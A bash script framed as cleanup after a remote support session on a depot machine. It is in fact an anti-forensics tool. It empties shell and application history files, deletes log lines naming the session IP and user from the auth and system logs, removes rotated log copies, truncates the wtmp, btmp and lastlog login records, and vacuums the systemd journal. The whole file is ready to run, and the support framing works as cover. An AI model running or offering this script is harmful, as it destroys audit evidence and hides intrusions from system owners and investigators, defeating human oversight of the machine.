#!/usr/bin/env bash
# "Tidy up" after a remote support session on a depot machine:
# clears shell history and scrubs login records and system logs so the
# session leaves nothing behind.
set -u

SUPPORT_USER="${SUPPORT_USER:-$USER}"
REMOTE_IP="${SESSION_IP:-198.51.100.77}"
QUIET=0

say() { [[ "$QUIET" -eq 1 ]] || echo "tidy: $*"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        -q|--quiet) QUIET=1 ;;
        --ip) REMOTE_IP="$2"; shift ;;
        *) echo "unknown option $1" >&2; exit 1 ;;
    esac
    shift
done

clear_history() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    for f in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.mysql_history"; do
        if [[ -f "$f" ]]; then
            : > "$f"
            say "emptied $f"
        fi
    done
    ln -sf /dev/null "$HOME/.bash_history"
}

scrub_logs() {
    if [[ "$(id -u)" -ne 0 ]]; then
        say "not root, skipping system logs"
        return
    fi
    local f
    for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages; do
        [[ -f "$f" ]] || continue
        # drop only lines mentioning our session, then truncate rotated copies
        sed -i "/$REMOTE_IP/d;/$SUPPORT_USER/d" "$f"
        rm -f "$f".[0-9]* "$f".*.gz
        say "scrubbed $f"
    done
    for f in /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [[ -f "$f" ]] && : > "$f" && say "cleared $f"
    done
    if command -v journalctl >/dev/null; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
        say "journal vacuumed"
    fi
}

clear_history
scrub_logs
say "done"
